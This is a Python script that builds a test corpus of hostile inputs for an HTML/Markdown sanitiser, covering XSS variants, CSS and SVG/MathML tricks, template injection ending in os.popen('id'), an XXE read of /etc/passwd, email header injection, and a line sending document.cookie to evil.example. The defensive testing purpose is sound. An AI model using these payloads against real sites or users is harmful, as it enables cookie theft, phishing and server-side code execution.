"""Build tests/data/hostile/payloads.json, the corpus tests/test_sanitise.py feeds to `digest`.

    python scripts/make_hostile.py [--check]

Hand-written payloads (the classic XSS, CSS, SVG/MathML, mXSS, template, Markdown and header
injection tricks) plus combinations: dangerous URL schemes × obfuscations × the places a URL
can hide, event handlers × elements, control characters × surroundings. Each payload is a
{"kind": ..., "payload": ...} object on its own line; JSON so that NUL, CR and the other
control characters survive as escapes. Output is deterministic. `--check` exits 1 when the
committed file is out of date instead of writing it.
"""

from __future__ import annotations

import argparse
import json
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
OUT = ROOT / "tests" / "data" / "hostile" / "payloads.json"

SCRIPT = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script/src=//evil.example/x.js></script>",
    "<script type=module>import('//evil.example/x.js')</script>",
    "<script>alert(1)",
    "<script\n>alert(1)</script\n>",
    "<script\t>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</p></td></tr></table><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<script>document.location='https://evil.example/?c='+document.cookie</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    '<noscript><p title="</noscript><script>alert(1)</script>">',
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
]

HANDLERS = [
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
    "onbegin",
    "ONERROR",
]
HANDLER_ELEMENTS = [
    "<img src=x {h}=alert(1)>",
    '<p {h}="alert(1)">text</p>',
    "<a href=\"https://ok.example/\" {h}='alert(1)'>link</a>",
    "<div/{h}=alert(1)>x</div>",
    "<b\n{h}=alert(1)>x</b>",
]
HANDLER_EXTRA = [
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<img src=x onerror=`alert(1)`>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror&#61;alert(1)>",
    '<img src="x" \x0conerror=alert(1)>',
    '<div style="animation-name:x" onanimationstart="alert(1)">x</div>',
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<object data=x onerror=alert(1)>",
    '<span onmouseover="alert(1)" style="display:block;width:10000px;height:10000px">x</span>',
]

SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "java\x00script:alert(1)",
    "\x01javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;script:alert(1)",
    "&#0000106&#0000097vascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript%3Aalert(1)",
    "jav&#x09;ascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:image/svg+xml,<svg onload=alert(1)>",
    " data:image/gif;base64,R0lGODlhAQABAAAAACw=",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\share",
    "http:evil.example",
    "https:/\\evil.example",
    "livescript:alert(1)",
    "mhtml:https://evil.example/x.mht!x",
]
URL_WRAPPERS = [
    "{u}",
    '<a href="{u}">click</a>',
    "<a href={u}>click</a>",
    "[click]({u})",
    "[click](<{u}>)",
    "<{u}>",
    "![pixel]({u})",
    "[click][r]\n\n[r]: {u}",
]

CSS = [
    '<div style="width:expression(alert(1))">x</div>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="background-image:url(https://t.example/p.gif)">x</p>',
    "<p style=\"background:url('https://t.example/p.gif')\">x</p>",
    '<span style="behavior:url(https://evil.example/x.htc)">x</span>',
    '<span style="-moz-binding:url(https://evil.example/x.xml#x)">x</span>',
    '<div style="xss:e\\xpression(alert(1))">x</div>',
    '<div style="xss:exp/**/ression(alert(1))">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">phish</div>',
    '<div style="width:5000px">wide</div>',
    '<div style="font-size:500px">huge</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<style>body{background:url("https://t.example/p.gif")}</style>',
    "<style>*{display:none}</style>",
    "<style>/*</style><script>alert(1)</script>*/</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>x</UL>',
    '<table background="https://t.example/p.gif"><tr><td>x</td></tr></table>',
]

SVG_MATH = [
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1) /></svg>",
    '<svg><image href="https://t.example/p.gif" width="1" height="1"/></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style>@import 'https://evil.example/x.css'</style></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(1)' /></svg>#x\" /></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    '<math href="javascript:alert(1)">x</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
]

EMBEDS = [
    "<iframe src=https://evil.example/></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "<IFRAME SRC=# onmouseover=alert(1)></IFRAME>",
    "<frameset><frame src=https://evil.example/></frameset>",
    '<form action="https://evil.example/steal" method="post">'
    '<input name="password" type="password"><button>Log in</button></form>',
    '<form><input type="submit" formaction="javascript:alert(1)"></form>',
    '<object data="https://evil.example/x.swf"></object>',
    '<object type="text/html" data="javascript:alert(1)"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<applet code="x.class" codebase="https://evil.example/"></applet>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="import" href="https://evil.example/x.html">',
    '<portal src="https://evil.example/"></portal>',
    '<input type="image" src="https://t.example/p.gif">',
    '<video poster="https://t.example/p.gif"></video>',
    '<video src="https://evil.example/x.mp4" autoplay></video>',
    '<audio src="https://evil.example/x.mp3" autoplay></audio>',
    '<textarea name="x">type your password</textarea>',
    '<button type="button">Click</button>',
    '<dialog open style="position:fixed">phish</dialog>',
]

PIXELS = [
    '<img src="https://t.example/p.gif" width="1" height="1">',
    "<img width=1 height=1 src=https://t.example/p.gif>",
    '<img src="https://t.example/p.gif" style="display:none">',
    '<IMG SRC="https://t.example/p.gif" WIDTH="0" HEIGHT="0" BORDER="0">',
    '<img src="https://t.example/p.gif" alt="">',
    '<img srcset="https://t.example/p.gif 1x">',
    '<img src=x data-src="https://t.example/p.gif">',
    '<picture><source srcset="https://t.example/p.gif"><img src=x></picture>',
    '<image src="https://t.example/p.gif">',
    '<img dynsrc="https://t.example/x.avi" lowsrc="https://t.example/p.gif">',
    '<body background="https://t.example/p.gif">',
    '<p>Read more<img src="https://feeds.feedburner.example/~r/x/~4/p.gif" height="1" '
    'width="1" alt=""/></p>',
]

MALFORMED = [
    '<a href="javascript:alert(1)"',
    "<a href='https://ok.example/",
    "<div><p><b><i><u>unclosed",
    "</div></td></tr></table></body></html>trailing",
    "<table><tr><td>cell",
    "<<img src=x onerror=alert(1)//<",
    "<img src=x onerror=alert(1)//",
    "<a <script>alert(1)</script> href=x>",
    '<a href="https://ok.example/"<script>alert(1)</script>>x</a>',
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>-->",
    "<!---><script>alert(1)</script>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "--><script>alert(1)</script>",
    "<!-- unclosed comment <script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<![CDATA[><script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    '<?xml-stylesheet href="https://evil.example/x.xsl"?>',
    "<?php echo 1; ?><script>alert(1)</script>",
    '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>&xxe;',
    '<div title="a<script>alert(1)</script>">x</div>',
    "<p title='x' title=\"javascript:alert(1)\">x</p>",
    '<a href="https://ok.example/" href="javascript:alert(1)">x</a>',
    '<a href="https://ok.example/""><script>alert(1)</script>',
    '<a href="https://ok.example/\x00javascript:alert(1)">x</a>',
    '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>',
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '"onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    'x" style="position:fixed;top:0;left:0;width:100%;height:100%',
]

TEMPLATES = [
    "{{ 7*7 }}",
    "{{7*7}}",
    "<b>{{ 7*7 }}</b>",
    "Price {{ 7*7 }} dollars",
    "{% for x in range(3) %}{{ x }}{% endfor %}",
    "{% if true %}shown{% endif %}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "{# a comment #}visible",
    "{{ config }}",
    "{{ digest.reader }}",
    "{{ self.__init__.__globals__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ request.application.__globals__ }}",
    "{% set x = 7*7 %}{{ x }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{ '<script>alert(1)</script>'|safe }}",
    "{{ picks }}",
]

MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](java&#115;cript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](https://evil.example/)",
    '[x](https://ok.example/ "title" onmouseover="alert(1)")',
    "![img](http://t/p.gif)",
    "![img](https://t.example/p.gif){: onload=alert(1) }",
    "![x](javascript:alert(1))",
    "# heading",
    "## heading two",
    "###### heading six",
    "Heading\n=======",
    "Heading\n-------",
    "<b>bold</b>",
    "<h1>html heading</h1>",
    "<div>block html</div>",
    "<details><summary>x</summary>y</details>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[1]: https://evil.example/",
    "[x]\n\n[x]: https://evil.example/",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<https://evil.example/>",
    "<mailto:x@evil.example>",
    "<x@evil.example>",
    "https://evil.example/bare",
    "www.evil.example",
    "*em* **strong** _u_ __uu__ ~~del~~",
    "`code` ``code``",
    "```\nfenced\n```",
    "    indented code",
    "> quote",
    "- list item",
    "+ list item",
    "* list item",
    "1. ordered",
    "1) ordered",
    "| a | b |\n|---|---|\n| c | d |",
    "---",
    "***",
    "Footnote[^1]\n\n[^1]: https://evil.example/",
    "\\[x\\](javascript:alert(1))",
    "\\\\[x](javascript:alert(1))",
    "&#91;x&#93;(javascript:alert(1))",
    "[x](https://ok.example/)<b>",
    "[![img](https://t.example/p.gif)](https://evil.example/)",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[<img src=x onerror=alert(1)>](https://ok.example/)",
    "x\n\n<script>alert(1)</script>",
    "Term\n: definition",
    "*[HTML]: Hyper Text",
    "{: .cls onclick=alert(1) }",
    "[TOC]",
    "title](https://evil.example/) [x",
    ")](javascript:alert(1))",
    "|",
    "~~~",
]

HEADERS = [
    "x\r\nBcc: victim@evil.example",
    "x\nBcc: victim@evil.example",
    "x\rBcc: victim@evil.example",
    "x\r\n Bcc: victim@evil.example",
    "x\r\nTo: victim@evil.example",
    "x\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
    "x\r\n\r\nInjected body",
    "x%0d%0aBcc:%20victim@evil.example",
    "x%0D%0ABcc: victim@evil.example",
    "=?utf-8?q?x=0D=0ABcc:_victim@evil.example?=",
    "=?utf-8?b?eA0KQmNjOiB2aWN0aW1AZXZpbC5leGFtcGxl?=",
    "x\u2028Bcc: victim@evil.example",
    "x\u2029Bcc: victim@evil.example",
    "x\x85Bcc: victim@evil.example",
    "x\x0bBcc: victim@evil.example",
    "x\x0cBcc: victim@evil.example",
    "x\x00\r\nBcc: victim@evil.example",
    "Subject: spoofed\r\nFrom: ceo@evil.example",
    "x\r\nList-Unsubscribe: <https://evil.example/>",
]

# every C0 control, DEL and a few C1 controls, inside a word and alone
CONTROLS = [chr(c) for c in [*range(0, 32), 127, 0x80, 0x85, 0x9B, 0x9F]]
CONTROL_EXTRA = [
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\",
    "back\x08\x08\x08\x08space",
    "\x00" * 20,
    "bell\x07\x07\x07",
    "bidi \u202eevil.exe\u202c",
    "zero\u200bwidth\u200djoin\ufeff",
    "replacement \ufffd char",
    "nbsp\u00a0\u00a0\u00a0spaces",
]

LONG = [
    "A" * 1000,
    "x" * 5000,
    "word " + "y" * 2000 + " word",
    "https://long.example/" + "a" * 2000,
    "\u00e9" * 600,
    "\u65e5\u672c" * 300,
    "\U0001f600" * 400,
    "a" * 997 + "\u20ac",
    "-" * 1500,
    ("very long words " * 200).strip(),
    "<b>" * 500 + "deep" + "</b>" * 500,
    "<div>" * 300 + "nested" + "</div>" * 300,
    "[" * 1000 + "x" + "](javascript:alert(1))" * 3,
    "*" * 2000,
    "&amp;" * 500,
]


def combinations() -> list[tuple[str, str]]:
    out: list[tuple[str, str]] = []
    for wrapper in URL_WRAPPERS:
        for scheme in SCHEMES:
            out.append(("url", wrapper.format(u=scheme)))
    for element in HANDLER_ELEMENTS:
        for handler in HANDLERS:
            out.append(("handler", element.format(h=handler)))
    for control in CONTROLS:
        out.append(("control", f"before{control}after"))
        out.append(("control", control))
    return out


def payloads() -> list[dict[str, str]]:
    groups = [
        ("script", SCRIPT),
        ("handler", HANDLER_EXTRA),
        ("css", CSS),
        ("svg-math", SVG_MATH),
        ("embed", EMBEDS),
        ("pixel", PIXELS),
        ("malformed", MALFORMED),
        ("template", TEMPLATES),
        ("markdown", MARKDOWN),
        ("header", HEADERS),
        ("control", CONTROL_EXTRA),
        ("long", LONG),
    ]
    seen: set[str] = set()
    out: list[dict[str, str]] = []
    for kind, payload in [(k, p) for k, items in groups for p in items] + combinations():
        if payload not in seen:
            seen.add(payload)
            out.append({"kind": kind, "payload": payload})
    return out


def dump(items: list[dict[str, str]]) -> str:
    """One payload per line, ASCII only, so diffs show which payload changed."""
    lines = ",\n".join(json.dumps(item, ensure_ascii=True) for item in items)
    return f"[\n{lines}\n]\n"


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--check", action="store_true", help="fail if the file is out of date")
    args = parser.parse_args()
    text = dump(payloads())
    if args.check:
        current = OUT.read_text(encoding="utf-8") if OUT.exists() else ""
        if current != text:
            print(f"{OUT.relative_to(ROOT)} is out of date: run scripts/make_hostile.py")
            return 1
        return 0
    OUT.parent.mkdir(parents=True, exist_ok=True)
    OUT.write_text(text, encoding="utf-8")
    print(f"wrote {len(json.loads(text))} payloads to {OUT.relative_to(ROOT)}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
